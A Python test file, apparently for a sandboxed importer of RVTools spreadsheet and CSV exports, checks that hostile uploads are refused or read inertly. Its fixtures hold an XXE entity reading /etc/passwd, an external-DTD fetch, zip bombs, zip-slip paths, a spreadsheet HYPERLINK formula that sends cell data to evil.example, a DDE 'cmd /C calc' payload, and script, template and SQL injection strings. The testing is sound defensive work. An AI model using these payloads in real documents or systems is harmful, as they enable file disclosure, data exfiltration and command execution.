"""Every hostile file of the design: clear words, a living caller, nothing written, no network."""

import errno
import os
import random
import signal
import socket
import subprocess
import sys
import time

import orjson
import pytest

from assessments.importers import (
    Hostile,
    Limits,
    NotRecognised,
    Stopped,
    TooLarge,
    Unreadable,
    guarded,
    read,
    read_guarded,
)
from tests.importers import files
from tests.importers.files import INFO, SHEET, WEB, changed, exported, plain_workbook, table, zipped

NESTED = zipped({"inner.zip": exported(vInfo=[INFO, WEB])})
EXTERNAL = b'?><!DOCTYPE x SYSTEM "http://127.0.0.1:%d/evil.dtd">'
REFUSED = {
    "far cell": (files.far_cell(), Hostile, "far outside its table"),
    "external entity": (
        changed(
            plain_workbook(),
            SHEET,
            b"?>",
            b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        ),
        Hostile,
        "document type",
    ),
    "bomb": (zipped({"RVTools_tabvInfo.csv": bytes(50_000_000)}), Hostile, "may be a bomb"),
    "bomb in a workbook": (
        zipped({"[Content_Types].xml": b"<x/>", SHEET: b" " * 50_000_000}),
        Hostile,
        "may be a bomb",
    ),
    "zip slip": (zipped({"../../tmp/RVTools_tabvInfo.csv": b"VM"}), Hostile, "leads out"),
    "absolute path": (zipped({"/tmp/RVTools_tabvInfo.csv": b"VM"}), Hostile, "leads out"),
    "many members": (
        zipped({f"{number}.csv": b"VM" for number in range(2_001)}),
        TooLarge,
        "holds 2001 tables; at most 2000",
    ),
    "nested zip": (NESTED, NotRecognised, "holds another archive or workbook: unpack it"),
    "workbook in a zip": (zipped({"a.xlsx": plain_workbook()}), NotRecognised, "unpack it"),
    "zip without CSV": (
        zipped({"readme.txt": b"hello"}),
        NotRecognised,
        "holds no CSV file, and nothing of",
    ),
    "encrypted zip": (files.encrypted(), NotRecognised, "Save it without a password"),
    "symbolic link": (files.link(), Hostile, "holds a link"),
    "old workbook": (b"\xd0\xcf\x11\xe0" + bytes(600), NotRecognised, "Save it as .xlsx"),
    "program": (b"\x7fELF" + bytes(600), NotRecognised, "neither a workbook"),
    "broken zip": (b"PK\3\4" + bytes(600), NotRecognised, "archive is damaged"),
    "open quotation": (
        b'VM,Annotation\r\nweb-1,"never closed\r\nweb-2,x\r\n',
        Unreadable,
        "row 2 is never closed",
    ),
    "long cell": (b"VM\r\n" + b"x" * 200_000, Unreadable, "cannot be read at row 2"),
    "no vInfo": (
        exported(vHost=[("Host",), ("esx1",)]),
        NotRecognised,
        "no sheet vInfo with a column VM was found. It holds RVTools_tabvHost",
    ),
    "vInfo without VM": (exported(vInfo=[("Name",), ("x",)]), NotRecognised, "with a column VM"),
    "other workbook": (files.workbook(Sheet1=[("a",), ("b",)]), NotRecognised, "It holds Sheet1"),
    "empty": (b"", NotRecognised, "The file is empty"),
    "blank": (b" \r\n\r\n ", NotRecognised, "The file is empty"),
    "prose": (b"Dear team,\r\nplease find attached\r\n", NotRecognised, "not an export of RVTools"),
    "web page": (b"<!doctype html><title>Sign in</title>", NotRecognised, "no export of"),
}


@pytest.fixture
def folder(tmp_path):
    """An empty folder that holds the upload and must hold nothing else afterwards."""
    yield tmp_path
    assert [path.name for path in tmp_path.iterdir()] == ["upload"]


def put(folder, content):
    path = folder / "upload"
    path.write_bytes(content)
    return path


def names(folder, content):
    return [guest.name for guest in read_guarded(put(folder, content)).estate.guests]


@pytest.mark.parametrize("reader", [read, read_guarded])
@pytest.mark.parametrize("kind", sorted(REFUSED))
def test_a_hostile_file_is_refused_in_words(kind, reader, folder):
    content, refusal, words = REFUSED[kind]
    with pytest.raises(refusal, match=words):
        reader(put(folder, content))


def test_a_document_type_of_another_machine_is_not_fetched(folder):
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        bad = changed(plain_workbook(), SHEET, b"?>", EXTERNAL % server.getsockname()[1])
        with pytest.raises(Hostile, match="document type"):
            read_guarded(put(folder, bad))
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.mark.parametrize("rows", ["A1:E1048576", "A1:XFD1048576"])
def test_a_sheet_that_claims_a_million_rows_is_read_for_what_it_holds(rows, folder):
    claim = f'<dimension ref="{rows}"/>'.encode()
    assert names(folder, changed(plain_workbook(), SHEET, b'<dimension ref="A1:E2"/>', claim)) == [
        "web-1"
    ]


def test_a_million_blank_rows_are_no_machines(folder):
    blank = b'<row r="1048576" spans="1:5"><c r="A1048576"/></row></sheetData>'
    assert names(folder, changed(plain_workbook(), SHEET, b"</sheetData>", blank)) == ["web-1"]


@pytest.mark.parametrize("name", ["photo.jpg", "export.pdf", "vInfo"])
def test_the_name_of_a_file_says_nothing(name, tmp_path):
    (tmp_path / name).write_bytes(plain_workbook())
    assert len(read_guarded(tmp_path / name).estate.guests) == 1


def test_duplicate_headers_and_rows_are_kept_apart(folder):
    header = (*INFO, "VM", "Powerstate")
    rows = [(*WEB, "other", "poweredOff"), (*WEB, "other", "poweredOff")]
    found = read_guarded(put(folder, exported(vInfo=[header, *rows]))).estate.guests
    assert [(guest.name, guest.power, guest.ref.native_id) for guest in found] == [
        ("web-1", "on", "vm-1"),
        ("web-1", "on", "vm-1#2"),
    ]


HARMLESS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "../../etc/passwd",
    "'; DROP TABLE x; --",
    'say "hello"',
    "  leading spaces",
    "Größe 名前 قاعدة \U0001f600",
    '#read("/etc/passwd")',
]


@pytest.mark.parametrize("form", [exported, files.workbook])
def test_names_that_attack_whoever_shows_them_are_read_as_they_stand(form, folder):
    rows = [(name, "poweredOn", "esx1", f"vm-{n}", "vc") for n, name in enumerate(HARMLESS)]
    assert names(folder, form(vInfo=[INFO, *rows])) == HARMLESS


def test_nul_in_a_name_is_left_out(folder):
    text = table(INFO, WEB).replace("web-1", "we\0b-1").encode()
    assert names(folder, zipped({"RVTools_tabvInfo.csv": text})) == ["web-1"]


# what the child may cost, and what it dies of


def test_a_parser_that_aborts_ends_in_words(folder, monkeypatch):
    monkeypatch.setattr("assessments.importers.guarded._ROOT", folder.parent)  # no such module
    with pytest.raises(Unreadable, match="made its reader fail"):
        read_guarded(put(folder, plain_workbook()))


def test_the_fast_reader_that_dies_of_a_far_cell_takes_nobody_with_it(folder):
    """A cell just inside what the look-over allows, so that only the limit of memory holds."""
    path = put(folder, files.far_cell("ALL1048576"))
    with pytest.raises(Unreadable, match="made its reader fail"):
        read_guarded(path, Limits(memory=600_000_000))


def test_the_memory_of_the_child_is_bounded(folder):
    noise = random.Random(2).randbytes(8_000_000).hex()
    content = table(
        ("VM", "Note"), *(("a", noise[at : at + 30_000]) for at in range(0, len(noise), 30_000))
    )
    with pytest.raises(Unreadable, match="memory"):
        read_guarded(put(folder, content.encode()), Limits(memory=180_000_000))


def test_the_processor_time_of_the_child_is_bounded(folder):
    with pytest.raises(TooLarge, match="took more than 1 seconds of processor time"):
        read_guarded(put(folder, slow()), Limits(cpu_seconds=1))


def test_the_waiting_is_bounded(folder):
    with pytest.raises(TooLarge, match="took longer than 0 seconds"):
        read_guarded(put(folder, slow()), Limits(wall_seconds=0))


@pytest.mark.parametrize("reader", [read, read_guarded])
def test_a_file_beyond_the_limit_is_not_read(reader, folder):
    with pytest.raises(TooLarge, match="larger than 1 MB"):
        reader(put(folder, bytes(1_000_001)), Limits(size=1_000_000))


def test_a_large_reading_comes_whole_through_the_pipe(folder):
    rows = [(f"v{n}", "poweredOn", "e", f"vm-{n}", "vc") for n in range(2_000)]
    path = put(folder, exported(vInfo=[INFO, *rows]))
    assert read_guarded(path) == read(path)


def test_whoever_waits_may_stop(folder):
    began, said = time.monotonic(), []
    with pytest.raises(Stopped, match="was stopped"):
        read_guarded(
            put(folder, slow()),
            on_progress=lambda *step: said.append(step),
            should_stop=lambda: bool(said) or time.monotonic() - began > 60,
        )
    assert said[0] == ("Opening the file", 0, 1)


def test_the_child_is_gone_when_the_reading_ends(folder, monkeypatch):
    started = []
    start = guarded._start

    def remembered(*arguments):
        started.append(start(*arguments))
        return started[-1]

    monkeypatch.setattr(guarded, "_start", remembered)
    with pytest.raises(TooLarge):
        read_guarded(put(folder, slow()), Limits(wall_seconds=0))
    assert started[0].returncode == -signal.SIGKILL


def test_a_file_that_is_not_there_is_said_as_such(tmp_path):
    with pytest.raises(FileNotFoundError):
        read_guarded(tmp_path / "nothing")


CHILD = """
import os, resource, sys, orjson
from assessments.importers import child
out = os.open("%s", os.O_CREAT | os.O_WRONLY)
child.rehearse(); child._drop_privileges(); child._bound(child.Limits(cpu_seconds=9))
tried = {"uid": os.getuid()}
for name, attempt in {
    "write": lambda: os.write(out, b"x"),
    "fork": os.fork,
}.items():
    try:
        attempt()
        tried[name] = "done"
    except OSError as error:
        tried[name] = error.errno
tried["core"] = resource.getrlimit(resource.RLIMIT_CORE)[1]
sys.stdout.buffer.write(orjson.dumps(tried))
"""


def test_the_child_may_write_nothing_and_start_nothing(tmp_path):
    done = subprocess.run(
        [sys.executable, "-c", CHILD % (tmp_path / "out")],
        capture_output=True,
        check=False,
        env={"PYTHONPATH": os.fspath(guarded._ROOT), "PATH": os.defpath},
    )
    assert done.returncode == 0, done.stderr
    tried = orjson.loads(done.stdout)
    assert (tried["write"], tried["fork"], tried["core"]) == (errno.EFBIG, errno.EAGAIN, 0)
    assert (tmp_path / "out").stat().st_size == 0


def slow():
    """An export that takes the reader some seconds."""
    return table(
        INFO, *((f"v{n}", "poweredOn", "e", f"vm-{n}", "vc") for n in range(400_000))
    ).encode()
